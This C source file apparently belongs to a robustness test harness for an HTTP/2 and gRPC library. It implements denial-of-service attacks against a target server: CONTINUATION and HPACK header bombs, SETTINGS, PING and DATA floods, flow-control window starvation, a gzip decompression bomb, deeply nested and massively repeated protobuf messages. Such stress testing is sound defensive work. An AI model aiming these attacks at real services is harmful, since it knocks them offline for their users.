/* moves - attacks by what one connection says. */
#include "attacks/siege/moves.h"

#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "attacks/siege/play.h"
#include "base/util.h"
#include "wire/compress.h"

static const char send_message[] = "/chat.ChatService/SendMessage",
                  notifications[] = "/chat.ChatService/GetNotifications",
                  reflection[] = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";

/* ---- header blocks -------------------------------------------------------------------------- */

static bool begin_endless(struct foe *f, const struct victim *v)
{
    struct buf block;

    if (!foe_begin(f, v))
        return false;
    foe_block(f, &block, play_chat);
    vitro_frame_write_headers(&f->out, 1, 0, vitro_buf_bytes(&block), NULL);
    vitro_buf_done(&block);
    return true;
}

static void go_on_endless(struct foe *f, struct move *m)
{
    struct buf block;

    vitro_buf_init(&block, NULL, SIZE_MAX);
    while (block.len < 16000)
        vitro_buf_append(&block, "\0\1a\1b", 5); /* a: b, not indexed */
    vitro_frame_write_continuation(&f->out, 1, 0, vitro_buf_bytes(&block));
    vitro_buf_done(&block);
    m->sent++;
}

void attack_continuations(struct move *m)
{
    play_alone(m, begin_endless, go_on_endless);
}

/* A request, then the same bytes until there are 16 KB. */
static void send_padded_block(struct foe *f, struct move *m, const char *bytes, size_t n)
{
    struct buf block;

    foe_block(f, &block, play_chat);
    if (n == 1 && m->sent == 0) {
        char value[4001];

        memset(value, 'v', sizeof value - 1);
        value[sizeof value - 1] = '\0';
        vitro_hpack_write(&f->encoder, &block, vitro_str_of("bomb"), vitro_str_of(value),
                          &(struct hpack_style){ .how = HPACK_HOW_INCREMENTAL });
    }
    while (block.len < 16384)
        vitro_buf_append(&block, bytes, n);
    vitro_frame_write_block(&f->out, foe_next(f), 0, vitro_buf_bytes(&block), FRAME_DEFAULT_MAX,
                            NULL);
    vitro_buf_done(&block);
    m->sent++;
}

static void send_bomb(struct foe *f, struct move *m)
{
    send_padded_block(f, m, "\xbe", 1); /* the newest entry of the table, once more */
}

void attack_hpack_bomb(struct move *m)
{
    play_alone(m, foe_begin, send_bomb);
}

static void send_nameless(struct foe *f, struct move *m)
{
    send_padded_block(f, m, "\0\0\0", 3);
}

void attack_nameless(struct move *m)
{
    play_alone(m, foe_begin, send_nameless);
}

/* ---- floods --------------------------------------------------------------------------------- */

/* It asks, and does not read the answers. */
static bool begin_deaf(struct foe *f, const struct victim *v)
{
    if (!foe_begin(f, v))
        return false;
    f->deaf = true;
    return true;
}

static void send_settings(struct foe *f, struct move *m)
{
    for (int i = 0; i < 500; i++, m->sent++)
        foe_setting(f, SETTING_INITIAL_WINDOW_SIZE, 1000);
}

void attack_settings(struct move *m)
{
    play_alone(m, begin_deaf, send_settings);
}

static void send_pings(struct foe *f, struct move *m)
{
    for (int i = 0; i < 500; i++, m->sent++)
        vitro_frame_write_ping(&f->out, 0, (uint8_t[8]){ 1 });
}

void attack_pings(struct move *m)
{
    play_alone(m, begin_deaf, send_pings);
}

static bool begin_call(struct foe *f, const struct victim *v)
{
    if (!foe_begin(f, v))
        return false;
    foe_open(f, play_chat);
    return true;
}

static void send_empty_data(struct foe *f, struct move *m)
{
    for (int i = 0; i < 500; i++, m->sent++)
        vitro_frame_write_data(&f->out, 1, 0, (vitro_bytes){ NULL, 0 }, NULL);
}

void attack_empty_data(struct move *m)
{
    play_alone(m, begin_call, send_empty_data);
}

/* ---- windows -------------------------------------------------------------------------------- */

/* {1: "you"}: a reply of some hundred bytes. */
static const vitro_bytes hello = { (const uint8_t *)"\x0a\x03you", 5 };

static bool begin_shut_window(struct foe *f, const struct victim *v)
{
    if (!foe_begin(f, v))
        return false;
    foe_setting(f, SETTING_INITIAL_WINDOW_SIZE, 0);
    return true;
}

static void ask_a_hundred(struct foe *f, struct move *m)
{
    if (m->sent < 100) {
        foe_message(f, foe_open(f, notifications), false, hello);
        m->sent++;
    } else {
        foe_listen(f, 100);
    }
}

void attack_zero_window(struct move *m)
{
    play_alone(m, begin_shut_window, ask_a_hundred);
}

static bool begin_thirsty(struct foe *f, const struct victim *v)
{
    if (!begin_shut_window(f, v))
        return false;
    foe_message(f, foe_open(f, notifications), false, hello);
    return true;
}

static void sip(struct foe *f, struct move *m)
{
    vitro_frame_write_window_update(&f->out, 1, 1);
    m->sent++;
}

void attack_byte_window(struct move *m)
{
    play_alone(m, begin_thirsty, sip);
}

/* {4: "grpc.reflection.v1.ServerReflection"}: a question about a file of two thousand bytes. */
static const uint8_t asked[] = "\x22\x23"
                               "grpc.reflection.v1.ServerReflection";
static const vitro_bytes question = { asked, sizeof asked - 1 };

/* As many questions as there is window for; a system that takes no answers but a few. */
static bool begin_shut(struct foe *f, const struct victim *v)
{
    if (!foe_begin_narrow(f, v))
        return false;
    foe_setting(f, SETTING_INITIAL_WINDOW_SIZE, INT32_MAX);
    vitro_frame_write_window_update(&f->out, 0, INT32_MAX - FRAME_DEFAULT_WINDOW);
    foe_open(f, reflection);
    while (f->window > 100)
        foe_data(f, 1, question);
    f->deaf = true;
    return foe_send(f);
}

void attack_closed_tcp(struct move *m)
{
    play_crowd(m, 20, begin_shut, 100);
}

/* Questions without end, and no window for the answers. */
static void ask_on(struct foe *f, struct move *m)
{
    if (f->streams == 0)
        foe_open(f, reflection);
    for (int i = 0; i < 100 && MIN(f->window, f->stream_window) > 100; i++, m->sent++)
        foe_data(f, 1, question);
    foe_listen(f, 1);
}

void attack_hoard(struct move *m)
{
    play_alone(m, begin_shut_window, ask_on);
}

/* The same with what is said returned. */
static void talk_on(struct foe *f, struct move *m)
{
    static const uint8_t head[] = { 0x12, 0x80 | (997 & 0x7f), 997 >> 7 };
    uint8_t text[1000];

    memset(text, 'x', sizeof text);
    memcpy(text, head, sizeof head);
    if (f->streams == 0)
        foe_open(f, play_chat);
    for (int i = 0; i < 100 && MIN(f->window, f->stream_window) > 2000; i++, m->sent++)
        foe_data(f, 1, (vitro_bytes){ text, sizeof text });
    foe_listen(f, 1);
}

void attack_echo(struct move *m)
{
    play_alone(m, begin_shut_window, talk_on);
}

/* ---- messages ------------------------------------------------------------------------------- */

/* Call after call with this message. */
static vitro_bytes heavy;
static const char *heavy_path;
static bool heavy_compressed;

static void send_heavy(struct foe *f, struct move *m)
{
    foe_message(f, foe_open(f, heavy_path), heavy_compressed, heavy);
    m->sent++;
    foe_listen(f, 1);
}

static void weigh_down(struct move *m, const char *path, bool compressed, struct buf *message)
{
    heavy = vitro_buf_bytes(message);
    heavy_path = path;
    heavy_compressed = compressed;
    play_alone(m, foe_begin, send_heavy);
    vitro_buf_done(message);
}

void attack_gzip_bomb(struct move *m)
{
    enum { SIZE = 200000000 };
    uint8_t *zeros = calloc(1, SIZE);
    struct buf bomb;

    vitro_buf_init(&bomb, NULL, SIZE_MAX);
    if (zeros && vitro_compress(ENCODING_GZIP, (vitro_bytes){ zeros, SIZE }, &bomb))
        weigh_down(m, send_message, true, &bomb);
    free(zeros);
}

/* Groups in groups: field 15 begins, and ends. */
void attack_deep(struct move *m)
{
    enum { DEPTH = 10000 };
    struct buf message;

    vitro_buf_init(&message, NULL, SIZE_MAX);
    for (size_t i = 0; i < 2 * DEPTH; i++)
        vitro_buf_append(&message, i < DEPTH ? "\x7b" : "\x7c", 1);
    weigh_down(m, send_message, false, &message);
}

/* A field of a message, two million times, empty. */
static void repeat_field(struct move *m, const char *field, const char *path)
{
    enum { SIZE = 4 * 1024 * 1024 };
    struct buf message;

    vitro_buf_init(&message, NULL, SIZE_MAX);
    for (size_t i = 0; i < SIZE; i += 2)
        vitro_buf_append(&message, field, 2);
    weigh_down(m, path, false, &message);
}

/* ServerReflectionRequest.file_containing_extension: the last one counts. */
void attack_empty_messages(struct move *m)
{
    repeat_field(m, "\x2a\0", reflection);
}

/* FileDescriptorSet.file: each counts. */
void attack_many_messages(struct move *m)
{
    repeat_field(m, "\x0a\0", "/attacks.Host/Keep");
}
